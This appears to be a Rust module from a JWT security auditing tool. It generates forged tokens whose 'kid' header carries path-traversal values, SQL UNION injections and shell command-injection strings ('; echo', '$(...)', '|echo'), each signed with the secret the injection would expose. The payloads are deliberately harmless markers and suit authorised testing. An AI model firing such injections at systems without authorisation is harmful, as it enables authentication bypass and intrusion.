//! A `kid` that is more than a name. What it would do is read a known file, or select a constant: nothing that
//! changes anything.

use base64::Engine as _;
use serde_json::{Value, json};

use crate::live::keys::hmac;
use crate::live::parts::Parts;
use crate::live::probe::Probe;
use crate::live::rules::{KID, SIGNATURE};
use crate::token::BASE64;

/// A `kid`, and the secret that it would lead to.
const PATHS: [(&str, &str); 5] = [
    ("../../../../../../../../dev/null", ""),
    ("/dev/null", ""),
    ("../../../../../../../../proc/sys/kernel/randomize_va_space", "2\n"),
    ("/proc/sys/kernel/randomize_va_space", "2\n"),
    ("file:///dev/null", ""),
];
const STATEMENTS: [(&str, &str); 6] = [
    ("tokenward' UNION SELECT 'tokenward'-- ", "tokenward"),
    ("tokenward\" UNION SELECT 'tokenward'-- ", "tokenward"),
    ("0 UNION SELECT 'tokenward'-- ", "tokenward"),
    ("/dev/null; echo tokenward", "tokenward\n"),
    ("$(echo /dev/null)", ""),
    ("|echo tokenward", "tokenward\n"),
];

pub(super) fn all(parts: &Parts, is_intrusive: bool) -> Vec<Probe> {
    let statements = if is_intrusive { STATEMENTS.as_slice() } else { &[] };
    let mut all: Vec<Probe> = PATHS
        .iter()
        .chain(statements)
        .filter_map(|(kid, secret)| {
            let header = parts.header_with(&[("alg", json!("HS256")), ("kid", json!(kid))]);
            let input = parts.input(&header);
            let signature = BASE64.encode(hmac("HS256", secret.as_bytes(), input.as_bytes())?);
            Some(Probe::token(
                &KID,
                format!("whose `kid` is `{kid}`"),
                format!("{input}.{signature}"),
            ))
        })
        .collect();
    // These open nothing; what the server answers to them may tell of paths and queries.
    let with = |what: &str, kid: Value| {
        let input = parts.input(&parts.header_with(&[("kid", kid)]));
        let token = format!("{input}.{}", parts.texts[2]);
        Probe::token(&SIGNATURE, format!("with {what}"), token)
    };
    all.extend([
        with("an empty `kid`", json!("")),
        with("an unknown `kid`", json!("tokenward-audit")),
        with("a `kid` that is a list", json!(["tokenward-audit"])),
        with("a `kid` of 4 KiB", json!("k".repeat(4096))).large(),
        with("a `kid` with a quote", json!("tokenward'audit")),
    ]);
    all
}
